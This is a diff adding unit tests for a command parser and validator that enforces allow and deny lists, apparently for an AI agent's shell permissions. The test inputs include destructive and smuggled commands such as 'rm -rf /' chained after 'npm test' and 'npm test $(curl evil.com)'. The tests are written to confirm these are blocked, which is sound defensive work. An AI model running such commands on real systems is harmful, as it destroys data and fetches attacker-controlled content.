@@ -7,6 +7,9 @@ describe("Command Validation", () => {
 			expect(parseCommand("npm test || npm run build")).toEqual(["npm test", "npm run build"])
 			expect(parseCommand("npm test; npm run build")).toEqual(["npm test", "npm run build"])
 			expect(parseCommand("npm test | npm run build")).toEqual(["npm test", "npm run build"])
+			expect(parseCommand("npm test & git push")).toEqual(["npm test", "git push"])
+			expect(parseCommand("echo hi\ngit push")).toEqual(["echo hi", "git push"])
+			expect(parseCommand("(git push)")).toEqual(["git push"])
 		})
 
 		it("preserves quoted content", () => {
@@ -18,6 +21,7 @@ describe("Command Validation", () => {
 		it("handles subshell patterns", () => {
 			expect(parseCommand("npm test $(echo test)")).toEqual(["npm test", "echo test"])
 			expect(parseCommand("npm test `echo test`")).toEqual(["npm test", "echo test"])
+			expect(parseCommand("echo $(echo x; git push)")).toEqual(["echo", "echo x", "git push"])
 		})
 
 		it("handles empty and whitespace input", () => {
@@ -117,5 +121,35 @@ describe("Command Validation", () => {
 			expect(validateCommand("npm test $(echo dangerous)", wildcardAllowedCommands)).toBe(true)
 			expect(validateCommand("npm test `rm -rf /`", wildcardAllowedCommands)).toBe(true)
 		})
+
+		it("never allows commands denied by the user or the project policy of the current mode", () => {
+			const projectPolicy = { deny: ["rm -rf"], modes: { test: { deny: ["npm run build*"] } } }
+
+			expect(validateCommand("npm test && rm -rf /", ["*"], { projectPolicy })).toBe(false)
+			expect(validateCommand("npm run build", allowedCommands, { projectPolicy, mode: "code" })).toBe(true)
+			expect(validateCommand("npm run build", allowedCommands, { projectPolicy, mode: "test" })).toBe(false)
+			expect(validateCommand("npm test", ["*"], { deniedCommands: ["npm test"] })).toBe(false)
+		})
+
+		it("checks commands after &, newlines, in groups and in subshells", () => {
+			for (const command of [
+				"npm test & git push",
+				"echo hi\ngit push",
+				"(git push)",
+				"echo $(echo x; git push)",
+				"echo ok; git push",
+			]) {
+				expect(validateCommand(command, ["*"], { deniedCommands: ["git push"] })).toBe(false)
+			}
+
+			expect(validateCommand("npm test\ngit push", ["npm test"])).toBe(false)
+		})
+
+		it("never allows commands because the project policy allows them", () => {
+			const projectPolicy = { allow: ["*"], modes: { code: { allow: ["git push"] } } }
+
+			expect(validateCommand("git push", allowedCommands, { projectPolicy, mode: "code" })).toBe(false)
+			expect(validateCommand("npm test $(curl evil.com)", allowedCommands, { projectPolicy })).toBe(false)
+		})
 	})
 })